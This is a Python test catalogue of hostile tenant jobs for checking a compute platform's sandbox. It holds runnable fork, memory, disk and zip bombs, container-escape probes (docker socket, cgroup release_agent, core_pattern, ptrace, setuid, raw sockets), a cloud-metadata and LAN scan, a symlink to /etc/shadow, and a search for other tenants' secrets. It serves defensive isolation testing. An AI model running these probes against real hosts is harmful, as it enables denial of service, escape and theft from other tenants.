"""What a tenant may try against the machine that runs its job: each attack is a job of its own.

An attack that takes too much has to be stopped and named. An attack that looks for a way out tries
everything it knows, says what worked, and at last how much it tried: one that was contained says that
alone.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

# What a job is given that means harm. Small: all of them run beside each other.
NEEDS = {"cpu_cores": 0.25, "ram_gb": 0.125, "storage_gb": 0.03}
# Whoever reads another tenant's files or memory finds this.
SECRET_BEGINS = "another-tenants-secret-"


@dataclass(frozen=True)
class Attack:
    """One hostile job.

    Attributes:
        code: of the error that its task ends with; None where it completes, and has done no harm.
        program: Python.
        tries: how many ways out it tries; 0 where it says something else, or nothing.
        arguments: of the task.
    """

    code: str | None
    program: str
    tries: int = 0
    arguments: Mapping[str, Any] = field(default_factory=dict)


_PRELUDE = """
import ctypes, errno, glob, itertools, os, re, resource, signal, socket, stat, struct, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
tried = 0
def attempt(name, action):
    global tried
    tried += 1
    try:
        found = action()
    except (OSError, ValueError, OverflowError, subprocess.SubprocessError):
        return
    print("worked:", name, found, flush=True)
def call(number, *arguments):
    "A system call; its error is raised."
    padded = [ctypes.c_long(a) for a in arguments] + [ctypes.c_long(0)] * (6 - len(arguments))
    if libc.syscall(ctypes.c_long(number), *padded) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
def write(path, text="1"):
    with open(path, "w") as file:
        file.write(text)
def read(path):
    with open(path, "rb") as file:
        return file.read(64)
"""
_EPILOGUE = """
print("tried", tried)
"""


def _escape(tries: int, body: str, **arguments: Any) -> Attack:
    return Attack(None, _PRELUDE + body + _EPILOGUE, tries, arguments)


ATTACKS: dict[str, Attack] = {
    # --- taking too much -------------------------------------------------------------------------
    "fork bomb": Attack(
        "TIME_EXCEEDED",
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
        arguments={"timeout_seconds": 3},
    ),
    "fork bomb that gives up": Attack(
        "PIDS_EXCEEDED",
        # It stays a moment after the refusal, so that the node's look at it is sure to see it.
        "import os, sys, time\n"
        "try:\n"
        "    while True:\n"
        "        if os.fork() == 0: time.sleep(20); os._exit(0)\n"
        "except OSError: time.sleep(2); sys.exit(1)",
    ),
    "memory bomb": Attack("MEMORY_EXCEEDED", "x = []\nwhile True: x.append(bytearray(4 << 20))"),
    "memory bomb in shared memory": Attack(
        "MEMORY_EXCEEDED",
        "try:\n"
        "    with open('/dev/shm/x', 'wb') as file:\n"
        "        while True: file.write(bytes(1 << 20))\n"
        "except OSError: pass\n"
        "x = []\n"
        "while True: x.append(bytearray(4 << 20))",
    ),
    "disk bomb": Attack(
        "DISK_EXCEEDED",
        "with open('/outputs/x', 'wb') as file:\n    while True: file.write(bytes(1 << 20))",
    ),
    "a million files": Attack(
        "DISK_EXCEEDED",
        "for number in range(1_000_000): open(f'/outputs/{number}', 'w').close()",
    ),
    "log bomb": Attack(
        None, "import sys\nfor _ in range(400): sys.stdout.write(('x' * 99 + '\\n') * 1000)"
    ),
    "progress bomb": Attack(
        None,
        "import sys\n"
        "for number in range(100_000): sys.stdout.write(f'NEUROGRID_PROGRESS 0.{number} ' + 'x' * 99 + '\\n')",
    ),
    # --- not ending ------------------------------------------------------------------------------
    "ignoring SIGTERM": Attack(
        "TIME_EXCEEDED",
        "import signal, time\n"
        "for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:\n"
        "    signal.signal(number, signal.SIG_IGN)\n"
        "time.sleep(600)",
        arguments={"timeout_seconds": 2},
    ),
    "leaving processes behind": Attack(
        None,
        "import os, signal, sys, time\n"
        "for _ in range(8):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        if os.fork() == 0:\n"
        "            signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "            time.sleep(600)\n"
        "        os._exit(0)\n"
        "time.sleep(1)",
    ),
    # --- outputs ---------------------------------------------------------------------------------
    "sparse outputs": Attack(
        "OUTPUT_REFUSED",
        "import os\n"
        "for number in range(64):\n"
        "    with open(f'/outputs/{number}', 'wb') as file: os.truncate(file.fileno(), 25 << 20)",
    ),
    "an output of a terabyte": Attack(
        "DISK_EXCEEDED",
        # The signal that Python ignores, and other programs do not.
        "import os, signal\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_DFL)\n"
        "with open('/outputs/x', 'wb') as file: os.truncate(file.fileno(), 1 << 40)",
    ),
    "too many outputs": Attack(
        "OUTPUT_REFUSED",
        # As many as the disk takes; that there were more is not said.
        "try:\n"
        "    for number in range(1_000_000): open(f'/outputs/{number}', 'w').close()\n"
        "except OSError: pass",
    ),
    "zip bomb": Attack(
        None,
        "import zipfile\n"
        "with zipfile.ZipFile('/outputs/bomb.zip', 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as file:\n"
        "    with file.open('zeros', 'w') as zeros:\n"
        "        for _ in range(256): zeros.write(bytes(1 << 20))",
    ),
    "a symbolic link in the outputs": Attack(
        "OUTPUT_REFUSED", "import os\nos.symlink('/etc/shadow', '/outputs/result')"
    ),
    "a linked folder in the outputs": Attack(
        "OUTPUT_REFUSED", "import os\nos.symlink('/root', '/outputs/results')"
    ),
    "a second name of an output": Attack(
        "OUTPUT_REFUSED",
        "import os\nopen('/outputs/a', 'w').close()\nos.link('/outputs/a', '/outputs/b')",
    ),
    "a pipe in the outputs": Attack("OUTPUT_REFUSED", "import os\nos.mkfifo('/outputs/pipe')"),
    "a socket in the outputs": Attack(
        "OUTPUT_REFUSED",
        "import socket\nsocket.socket(socket.AF_UNIX).bind('/outputs/socket')",
    ),
    "devices": _escape(
        9,
        """
for place in ("/outputs", "/tmp", "/dev/shm"):
    attempt(place, lambda: os.mknod(place + "/disk", stat.S_IFBLK | 0o666, os.makedev(254, 0)))
    attempt(place, lambda: os.mknod(place + "/memory", stat.S_IFCHR | 0o666, os.makedev(1, 1)))
for path in ("/dev/mem", "/dev/kmsg", "/dev/fuse"):
    attempt(path, lambda: read(path))
""",
    ),
    # --- looking for a way out -------------------------------------------------------------------
    "metadata address": _escape(
        5,
        """
for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192"):
    attempt(address, lambda: socket.create_connection((address, 80), timeout=3))
attempt("fd00:ec2::254", lambda: socket.create_connection(("fd00:ec2::254", 80), timeout=3))
""",
    ),
    "LAN scan": _escape(
        16 + 8 + 5,
        """
for last in range(1, 5):
    for network in ("10.0.0", "172.17.0", "192.168.0", "192.168.1"):
        attempt(network, lambda: socket.create_connection((f"{network}.{last}", 22), timeout=3))
def send(kind, address):
    sender = socket.socket(kind, socket.SOCK_DGRAM)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sender.sendto(b"x", address)
for address in ("172.17.0.1", "224.0.0.251", "255.255.255.255", "8.8.8.8"):
    for port in (53, 5353):
        attempt(address, lambda: send(socket.AF_INET, (address, port)))
attempt("mDNS", lambda: send(socket.AF_INET6, ("ff02::fb", 5353)))
attempt("a name", lambda: socket.getaddrinfo("example.com", 443))
# The host's own services, this market's API among them.
for port in (22, 2375, 2376):
    attempt(port, lambda: socket.create_connection(("127.0.0.1", port), timeout=3))
""",
    ),
    "the market's own API": _escape(
        2,
        """
for host in ("127.0.0.1", "172.17.0.1"):
    attempt(host, lambda: socket.create_connection((host, int(os.environ["API_PORT"])), timeout=3))
""",
    ),
    "the engine's socket": _escape(
        6,
        """
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"):
    def connect():
        socket.socket(socket.AF_UNIX).connect(path)
    attempt(path, connect)
def abstract():
    names = [line.split()[-1] for line in open("/proc/net/unix").readlines()[1:] if "@" in line]
    for name in names:
        socket.socket(socket.AF_UNIX).connect("\\0" + name[1:])
    if not names:
        raise OSError
attempt("abstract sockets", abstract)
attempt("containerd's shim", lambda: socket.socket(socket.AF_UNIX).connect("\\0/containerd-shim/x"))
""",
    ),
    "/proc and /sys": _escape(
        20,
        """
for path in (
    "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
    "/proc/sys/vm/drop_caches", "/proc/sys/vm/overcommit_memory", "/proc/sys/net/ipv4/ip_forward",
    "/proc/sys/fs/binfmt_misc/register", "/proc/sys/kernel/modprobe", "/proc/irq/0/smp_affinity",
    "/proc/self/oom_score_adj", "/proc/1/oom_score_adj", "/sys/kernel/uevent_helper",
    "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled",
):
    attempt(path, lambda: write(path, "-1000"))
for path in ("/proc/kcore", "/proc/kallsyms_of_the_host", "/proc/1/mem"):
    attempt(path, lambda: read(path))
def escape_by_cgroup():
    found = False
    for folder, _, names in os.walk("/sys/fs/cgroup"):
        for name in names:
            if name in ("release_agent", "cgroup.procs", "tasks", "memory.limit_in_bytes", "pids.max"):
                try:
                    write(os.path.join(folder, name), "0")
                    found = True
                except OSError:
                    pass
    if not found:
        raise OSError
attempt("control groups", escape_by_cgroup)
attempt("the container's init", lambda: open("/proc/1/exe", "r+b"))
attempt("the program's own file", lambda: open(os.path.realpath("/proc/self/exe"), "r+b"))
""",
    ),
    "kernel keys": _escape(
        3,
        """
attempt("add_key", lambda: call(248))
attempt("request_key", lambda: call(249))
attempt("keyctl", lambda: call(250, 0, -3, 0))
""",
    ),
    "ptrace and other processes": _escape(
        7,
        """
attempt("attach to init", lambda: call(101, 16, 1))
child = os.fork()
if child == 0:
    time.sleep(600)
    os._exit(0)
attempt("attach to a child", lambda: call(101, 16, child))
attempt("read a child's memory", lambda: call(310, child))
attempt("write a child's memory", lambda: call(311, child))
attempt("pidfd_getfd", lambda: call(438))
os.kill(child, signal.SIGKILL)
os.waitpid(child, 0)
attempt("kill everybody else", lambda: os.kill(-1, signal.SIGKILL))
attempt("trace me", lambda: call(101, 0))
""",
    ),
    "raw sockets": _escape(
        7,
        """
attempt("ICMP", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("raw IP", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
attempt("raw IPv6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW))
attempt("packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("netfilter", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK))
attempt("crypto", lambda: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET))
""",
    ),
    "setuid and capabilities": _escape(
        12,
        """
attempt("setuid", lambda: os.setuid(0))
attempt("setgid", lambda: os.setgid(0))
attempt("setgroups", lambda: os.setgroups([0]))
with open("/tmp/own", "w"):
    pass
attempt("chown", lambda: os.chown("/tmp/own", 0, 0))
def run(*command):
    answer = subprocess.run(command, capture_output=True, text=True, timeout=10)
    if answer.returncode or "0" not in answer.stdout.split():
        raise OSError
for program in ("su", "sudo", "mount"):
    attempt(program, lambda: run(program, "-c", "id -u"))
attempt("user namespace", lambda: call(272, 0x10000000))
attempt("mount", lambda: call(165))
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("a file of root", lambda: write("/etc/passwd"))
def copied():
    "A setuid copy of a shell, in every place that can be written and executed."
    subprocess.run(["cp", "/bin/sh", "/tmp/sh"], check=True, timeout=10)
    os.chown("/tmp/sh", 0, 0)
attempt("setuid copy", copied)
""",
    ),
    "kernel and clock": _escape(
        15,
        """
for name, number in {
    "reboot": 169, "kexec_load": 246, "init_module": 175, "finit_module": 313, "delete_module": 176,
    "settimeofday": 164, "clock_settime": 227, "adjtimex": 159, "sethostname": 170, "swapoff": 168,
    "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425,
}.items():
    attempt(name, lambda: call(number))
attempt("the first place for the processor", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))
""",
    ),
    "another tenant's files": _escape(
        1,
        f"""
def search():
    # Written apart, so that it does not find itself.
    wanted = re.compile(b"{SECRET_BEGINS[:10]}" + b"{SECRET_BEGINS[10:]}" + b"[0-9a-f]+")
    found = set()
    places = ("/inputs", "/outputs", "/tmp", "/dev/shm", "/run", "/var", "/home", "/root", "/mnt", "/media", "/srv")
    paths = [os.path.join(folder, name) for place in places for folder, _, names in os.walk(place) for name in names]
    paths += glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
    for path in paths:
        try:
            if stat.S_ISREG(os.stat(path).st_mode):
                with open(path, "rb") as file:
                    found |= set(wanted.findall(file.read(1 << 20)))
        except OSError:
            pass
    if not found:
        raise OSError
    return found
attempt("search", search)
""",
    ),
}
